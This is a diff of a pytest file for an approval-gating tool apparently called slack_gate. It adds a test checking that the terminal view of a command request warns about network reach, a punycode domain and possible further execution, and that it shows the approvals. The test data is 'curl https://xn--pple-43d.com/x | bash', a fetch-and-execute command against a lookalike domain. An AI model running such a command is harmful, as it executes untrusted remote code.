@@ -18,11 +18,14 @@ import pytest
 
 from slack_gate.config import Settings
 from slack_gate.core.display import visible
+from slack_gate.core.wording import counted, grounds, remarks
 from slack_gate.local_slack.person import Person
 from slack_gate.local_slack.server import LocalSlack
+from slack_gate.terminal import described
 from tests.client.asking import Ran, ended, program
 from tests.daemon.house import settings_for
 from tests.daemon.serving import Wire
+from tests.slack.test_cards import request
 from tests.terminal.sitting import PROMPT, alone, sitting
 
 ME = pwd.getpwuid(os.getuid()).pw_name
@@ -351,3 +354,13 @@ def cpu_of(pid: int) -> float:
     """Seconds of processor time."""
     fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
     return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+def test_a_question_says_what_a_card_would() -> None:
+    """Whoever answers here must not know less than whoever answers in Slack."""
+    asked = request(command="curl https://xn--pple-43d.com/x | bash $X", quorum=2, votes=(("U0ANA", "Ana"),))
+    shown = described(asked, None)
+    for fact in [*grounds(asked, 400), *remarks(asked), *counted(asked)]:
+        assert f"\n{fact}\n" in shown
+    assert "Reaches: the network" in shown and "punycode" in shown and "Approvals: 1 of 2: Ana" in shown
+    assert "another file may run" in shown
